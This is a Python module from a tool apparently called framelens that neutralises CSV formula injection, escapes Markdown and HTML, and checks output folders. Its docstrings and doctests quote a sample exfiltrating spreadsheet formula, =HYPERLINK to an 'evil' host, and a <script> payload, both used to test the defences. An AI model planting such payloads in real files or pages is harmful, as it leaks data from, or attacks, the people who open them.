"""Files people open, and the folders framelens may write: one home for the rules.

This module owns what every writer of framelens shares:

- **CSV cells a spreadsheet cannot run.** A text cell that starts with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return (or with an apostrophe) gets a leading apostrophe, so
  Excel, LibreOffice and Google Sheets show it as text and never run it as a formula (CSV
  injection: ``=HYPERLINK("http://evil/?"&A1,"x")`` in a headline). :func:`safe_table`
  protects a table, :func:`write_csv` writes one, :func:`restore_cell` undoes it on reading.
- **Markdown that shows as written.** :func:`markdown_text` escapes HTML and Markdown in a
  label, so ``<script>`` or ``**bold**`` in a codebook shows as those characters.
- **Output folders.** :func:`check_output_folder` refuses, before any work, an output
  folder that is a file or cannot be written.
- **Permissions.** Files written through a temporary file get the user's usual
  permissions (:func:`share_like_new_file`).
- **Folders framelens made.** A published report folder holds a marker file,
  :data:`REPORT_MARKER`, naming the report and its input (:func:`mark_folder`); a folder
  is replaced only when its marker says it is the same report (:func:`folder_owner`).
"""

from __future__ import annotations

import json
import os
import re
from os import PathLike
from pathlib import Path
from typing import TYPE_CHECKING

from framelens.errors import OutputError

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_STARTS", "REPORT_MARKER", "check_output_folder", "folder_owner",
           "mark_folder", "markdown_text", "restore_cell", "safe_cell", "safe_table",
           "share_like_new_file", "write_csv"]

#: first characters that make a spreadsheet read a cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: the marker file inside every report folder framelens publishes
REPORT_MARKER = ".framelens-report.json"


# --- CSV cells ---------------------------------------------------------------------------


def safe_cell(value: object) -> object:
    """A text cell a spreadsheet shows as text: formula starts get a leading apostrophe.

    Examples
    --------
    >>> safe_cell('=HYPERLINK("http://evil/?"&A1,"x")')
    '\\'=HYPERLINK("http://evil/?"&A1,"x")'
    >>> safe_cell("Global Times"), safe_cell(-0.5)
    ('Global Times', -0.5)
    """
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, "'")):
        return "'" + value
    return value


def restore_cell(value: object) -> object:
    """Undo :func:`safe_cell` (and a spreadsheet's own text apostrophe).

    Examples
    --------
    >>> restore_cell("'=1+1"), restore_cell("'quoted")
    ('=1+1', "'quoted")
    """
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" \
            and value[1] in (*FORMULA_STARTS, "'"):
        return value[1:]
    return value


def safe_table(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells and column names pass :func:`safe_cell`;
    numeric and boolean columns are left as they are.

    Examples
    --------
    >>> safe_table(pd.DataFrame({"outlet": ["=cmd"], "n": [-1]})).to_dict("list")
    {'outlet': ["'=cmd"], 'n': [-1]}
    """
    # imported here: `framelens build` uses this module's folder rules on every run
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    out = table.copy()
    for column in out.columns:
        if not (is_numeric_dtype(out[column]) or is_bool_dtype(out[column])):
            out[column] = out[column].map(safe_cell).astype(object)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def write_csv(table: pd.DataFrame, path: str | PathLike, *, encoding: str = "utf-8") -> Path:
    """Write ``table`` as CSV (no index) with every text cell protected by
    :func:`safe_cell`; return the path.

    Examples
    --------
    >>> write_csv(pd.DataFrame({"title": ["=1+1"]}), "t.csv")  # doctest: +SKIP
    """
    path = Path(path)
    safe_table(table).to_csv(path, index=False, encoding=encoding)
    return path


# --- Markdown ----------------------------------------------------------------------------

_MARKDOWN_SPECIAL_RE = re.compile(r"([\\`*_\[\]|~])")
#: a numbered list item when it starts a line ('#', '- ' and '+ ' are escaped too)
_MARKDOWN_NUMBERED_RE = re.compile(r"^(\d+)([.)] )")


def markdown_text(text: object) -> str:
    """``text`` on one line, escaped so that Markdown and HTML show it as written.

    Examples
    --------
    >>> markdown_text("<script>alert(1)</script> **bold** [x](http://e) | 1.0")
    '&lt;script&gt;alert(1)&lt;/script&gt; \\\\*\\\\*bold\\\\*\\\\* \\\\[x\\\\](http://e) \\\\| 1.0'
    """
    one_line = " ".join(str(text).split())
    escaped = one_line.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    escaped = _MARKDOWN_SPECIAL_RE.sub(r"\\\1", escaped)
    escaped = _MARKDOWN_NUMBERED_RE.sub(r"\1\\\2", escaped)
    return re.sub(r"^(#|[+-] )", r"\\\1", escaped)


# --- output folders ----------------------------------------------------------------------


def check_output_folder(folder: str | PathLike, *, option: str = "--out") -> Path:
    """Refuse an output folder that is a file or that cannot be written, before any work.

    The folder need not exist; then its nearest existing parent must be a writable folder.

    Parameters
    ----------
    folder : the output folder.
    option : how the user named it (``--out``), for the fix.

    Returns
    -------
    The folder, as given.

    Raises
    ------
    OutputError
    """
    folder = Path(folder)
    existing = folder
    while not existing.exists() and existing != existing.parent:
        if existing.is_symlink():  # a dangling link
            break
        existing = existing.parent
    if existing.exists() and not existing.is_dir():
        raise OutputError(f"{'this' if existing == folder else existing} is a file, not a "
                          "folder.", path=folder,
                          fix=f"pass {option} a folder (it is created if missing).")
    if not existing.exists() or not os.access(existing, os.W_OK | os.X_OK):
        raise OutputError(f"cannot write in {existing}: permission denied or read-only.",
                          path=folder,
                          fix=f"pass {option} a folder you may write to, or change its "
                              "permissions.")
    return folder


def share_like_new_file(path: str | PathLike) -> None:
    """Give ``path`` the permissions of a file created with ``open()`` under the user's
    umask (0644 under the usual 022), not the 0600 of :func:`tempfile.mkstemp`, whose
    temporary files framelens renames into place."""
    umask = os.umask(0)
    os.umask(umask)
    os.chmod(path, 0o666 & ~umask)


def mark_folder(folder: str | PathLike, *, report: str, identity: str) -> Path:
    """Write the marker that says ``folder`` is the report ``report`` of input ``identity``.

    Returns
    -------
    The marker file's path.
    """
    marker = Path(folder) / REPORT_MARKER
    marker.write_text(json.dumps({"framelens": "report", "report": report,
                                  "identity": identity}) + "\n", encoding="utf-8")
    return marker


def folder_owner(folder: str | PathLike) -> dict | None:
    """The marker of a report folder framelens published (``report`` and ``identity``),
    or None when ``folder`` holds no readable marker (framelens did not make it)."""
    marker = Path(folder) / REPORT_MARKER
    try:
        value = json.loads(marker.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return None
    if isinstance(value, dict) and value.get("framelens") == "report":
        return value
    return None
